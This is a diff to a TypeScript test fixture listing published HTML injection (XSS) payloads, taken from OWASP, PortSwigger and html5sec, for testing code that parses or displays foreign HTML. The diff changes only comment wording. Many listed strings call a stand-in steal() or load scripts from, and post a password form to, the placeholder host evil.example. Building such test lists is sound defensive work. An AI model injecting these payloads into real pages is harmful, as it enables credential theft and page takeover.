@@ -1,10 +1,10 @@
 /**
- * Published ways to get more than words out of HTML that somebody else wrote (OWASP's and PortSwigger's lists,
- * html5sec, mutation attacks on sanitisers). Each would call `steal`, load from evil.example, lead there or take
- * the page over. What reads such HTML, and what shows it, is held to the whole list.
+ * Published HTML injection attacks (OWASP's and PortSwigger's lists, html5sec, mutation attacks on
+ * sanitisers). Each would call `steal`, load from evil.example, navigate there or take over the page. Code
+ * that parses or shows foreign HTML is tested with the whole list.
  */
 export const htmlAttacks: readonly string[] = [
-  // Scripts, whole and in disguise.
+  // Scripts, plain and obfuscated.
   '<script>steal()</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   '<script/src="https://evil.example/x.js"></script>',
@@ -18,7 +18,7 @@ export const htmlAttacks: readonly string[] = [
   '<noscript><p title="</noscript><img src=x onerror=steal()>">',
   '<template><script>steal()</script></template>',
   '<template shadowrootmode="open"><img src=x onerror=steal()></template>',
-  // Elements that load or report an event by themselves.
+  // Elements that load or fire an event by themselves.
   '<img src=x onerror=steal()>',
   '<img src="https://evil.example/pixel.png">',
   '<img src=x:steal() onerror=eval(src)>',
@@ -33,7 +33,7 @@ export const htmlAttacks: readonly string[] = [
   '<p onpointerrawupdate=steal() onanimationend=steal() style="animation:x 1s">words</p>',
   '<div contenteditable onfocus=steal() autofocus tabindex=1>words</div>',
   '<p popover id=x onbeforetoggle=steal()>words</p><button popovertarget=x>go</button>',
-  // Drawings and formulas, whose parsers differ.
+  // SVG and MathML, whose parsers differ.
   '<svg onload=steal()><animate onbegin=steal() attributeName=x></svg>',
   '<svg><style><img src=x onerror=steal()></style></svg>',
   '<svg><script href="https://evil.example/x.js"></script></svg>',
@@ -102,13 +102,13 @@ export const htmlAttacks: readonly string[] = [
   '<a href="java\u0000script:steal()">go</a>',
   '<a href="java\u2028script:steal()">go</a>',
   '<a href="intent://evil.example/#Intent;scheme=https;end">go</a>',
-  // Forms that send elsewhere what a reader types.
+  // Forms that send the reader's input elsewhere.
   '<form action="javascript:steal()"><input autofocus onfocus=steal()><button>go</button></form>',
   '<form action="https://evil.example/"><input name=password type=password><button>go</button></form>',
   '<button formaction="javascript:steal()">go</button>',
   '<input type=image src=x onerror=steal() formaction="https://evil.example/">',
   '<isindex type=image src=1 onerror=steal()>',
-  // Styles that restyle or spy, and names that take the place of the page's own.
+  // Styles that restyle or spy, and names that shadow the page's own.
   '<p style="background:url(javascript:steal())" onmouseover=steal() id=main class=x>words</p>',
   '<style>@import "https://evil.example/x.css";</style>',
   '<style>body{background:url(https://evil.example/p)}</style>',
